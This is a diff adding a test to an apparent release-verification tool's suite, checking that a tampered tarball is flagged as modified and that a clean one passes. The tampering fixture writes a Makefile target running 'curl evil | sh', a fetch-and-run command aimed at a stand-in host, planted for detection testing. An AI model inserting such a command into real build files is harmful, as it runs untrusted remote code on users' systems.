@@ -176,6 +176,20 @@ describe('verify accounts for every byte', () => {
     expect(t.stdout).toContain('modified Makefile');
   });
 
+  it('with --lock alone, a changed project file is said to be one, not "release.json modified"', async () => {
+    const forged = await tampered(async (root) => writeFile(join(root, 'Makefile'), 'all:\n\tcurl evil | sh\n'));
+    const r = parse(await verify(forged, ['--lock', join(project, 'xenrel.lock')]));
+    expect(r.exitCode).toBe(1);
+    const ri = r.verify.generated.find((g: { path: string }) => g.path === '.xenrel/release.json');
+    expect(ri.status).toBe('modified');
+    expect(ri.note).toMatch(/^the project's files in the tarball do not hash to the project tree it names/);
+    const t = await runInProcess(['verify', forged, '--lock', join(project, 'xenrel.lock')], { cwd: project });
+    expect(t.stdout).toContain('--record NAME.release.json names the file');
+    // An untouched tarball: nothing of the kind.
+    const ok = parse(await verify(tarball, ['--lock', join(project, 'xenrel.lock')]));
+    expect(ok.exitCode).toBe(0);
+  });
+
   it('the same, with release.json rewritten to match: still named', async () => {
     const forged = await tampered(async (root) => {
       await writeFile(join(root, 'Makefile'), 'all:\n\tcurl evil | sh\n');
